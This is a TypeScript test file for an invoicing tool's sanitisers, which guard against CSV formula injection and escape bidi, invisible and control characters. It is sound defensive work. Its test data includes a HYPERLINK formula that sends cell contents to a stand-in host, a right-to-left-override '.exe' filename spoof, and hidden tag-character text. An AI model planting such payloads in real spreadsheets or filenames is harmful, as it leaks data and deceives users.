import { formulaSafe, jsonEscapedControls, safeCellText, visibleControls } from "../../src/i18n/safeText";
import { quote } from "../../src/i18n/messages";
import { invoiceName } from "../../src/i18n/xaf-messages";

describe("formulaSafe (OWASP CSV injection)", () => {
  it.each(["=1+2", "+31 Amsterdam", "-2025", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+2", "＋31", "－2025", "＠SUM(A1)", '=HYPERLINK("http://x.test/?"&A1,"klik")'])("prefixes %j with a quote", (text) => {
    expect(formulaSafe(text)).toBe(`'${text}`);
  });
  it.each(["Klant A", "2025", "€ 100", " =1", "'al tekst", ""])("leaves %j alone", (text) => {
    expect(formulaSafe(text)).toBe(text);
  });
});

describe("visibleControls", () => {
  it("writes ESC, bidi overrides, isolates and zero-width characters as \\uXXXX", () => {
    expect(visibleControls("\u001B[2Jweg")).toBe("\\u001B[2Jweg");
    expect(visibleControls("factuur\u202Efdp.exe")).toBe("factuur\\u202Efdp.exe");
    expect(visibleControls("a\u2066b\u2069c\u200Bd\u0000e\u0085f")).toBe("a\\u2066b\\u2069c\\u200Bd\\u0000e\\u0085f");
  });
  it("writes the other invisible format characters as escapes too: soft hyphen, invisible operators, shaping controls, annotation marks, tag characters", () => {
    expect(visibleControls("fac\u00ADtuur")).toBe("fac\\u00ADtuur");
    expect(visibleControls("x\u2061\u2062\u2063\u2064y")).toBe("x\\u2061\\u2062\\u2063\\u2064y");
    expect(visibleControls("\u206A\u206B\u206C\u206D\u206E\u206Fab")).toBe("\\u206A\\u206B\\u206C\\u206D\\u206E\\u206Fab");
    expect(visibleControls("\uFFF9ann\uFFFAo\uFFFB")).toBe("\\uFFF9ann\\uFFFAo\\uFFFB");
    expect(visibleControls("a\u034Fb\u180Ec")).toBe("a\\u034Fb\\u180Ec");
    // Tag characters spell hidden text ("hidden" in U+E0068 …): each shown by its code point.
    expect(visibleControls("ok\u{E0001}\u{E0068}\u{E0069}\u{E007F}")).toBe("ok\\u{E0001}\\u{E0068}\\u{E0069}\\u{E007F}");
    expect(safeCellText("\u{E0041}=1")).toBe("\\u{E0041}=1");
    expect(quote("12\u00AD34")).toBe('"12\\u00AD34"');
  });
  it("writes a lone surrogate (half a UTF-16 pair, which a workbook cell can hold) as \\uXXXX, and keeps a whole pair", () => {
    expect(visibleControls("a\uD800b\uDFFFc")).toBe("a\\uD800b\\uDFFFc");
    expect(visibleControls("\uDE00\uD83D")).toBe("\\uDE00\\uD83D");
    expect(visibleControls("\uD83D\uDE00")).toBe("😀");
  });
  it("keeps accents, the euro sign and emoji (with their joiner)", () => {
    const text = "Café € 👩‍💻 Zoë";
    expect(visibleControls(text)).toBe(text);
  });
  it("never cuts a character in half when a long quoted text is shortened", () => {
    expect(quote(`${"x".repeat(56)}😀${"y".repeat(10)}`)).toBe(`"${"x".repeat(56)}😀..."`);
    expect(invoiceName(`${"F".repeat(56)}😀${"1".repeat(10)}`, null).nl).toBe(`boeking ${"F".repeat(56)}😀...`);
  });
  it("counts characters, not UTF-16 units, up to the limit: 60 emoji stay whole, 61 are cut to 57", () => {
    expect(quote("😀".repeat(60))).toBe(`"${"😀".repeat(60)}"`);
    expect(quote("😀".repeat(61))).toBe(`"${"😀".repeat(57)}..."`);
  });
  it("quotes a cell of 140 million characters (a 300 MB CSV field) without taking it apart", () => {
    // Before 2 Dec 2026 the text was spread into an array of characters first: past V8's largest array that is a
    // fatal error that ended the whole kor-check run, the other files' workers included.
    expect(quote("z".repeat(140_000_000))).toBe(`"${"z".repeat(57)}..."`);
  });
  it("is applied to cell text quoted in messages", () => {
    expect(quote("12\u202E34")).toBe('"12\\u202E34"');
  });
  it("leaves no tab to start a formula after escaping", () => {
    expect(safeCellText("\t=1")).toBe("\\u0009=1");
  });
});

describe("jsonEscapedControls", () => {
  it("writes raw direction, C1, separator and invisible characters as JSON escapes; the values parse back exactly", () => {
    const value = { file: "klant\u202Exslx.xlsx", sheet: "a\u2028b\u0085c\u007F\u00AD\u{E0068}", n: 1, line: "x\ny\\\u202E" };
    const text = jsonEscapedControls(JSON.stringify(value, null, 2));
    expect(text).not.toMatch(/[\u007F-\u009F\u00AD\u2028\u202E]|\u{E0068}/u);
    expect(text).toContain('"file": "klant\\u202Exslx.xlsx"');
    expect(text).toContain('"sheet": "a\\u2028b\\u0085c\\u007F\\u00AD\\uDB40\\uDC68"');
    expect(text.split("\n")).toHaveLength(6);
    expect(JSON.parse(text)).toEqual(value);
  });
});
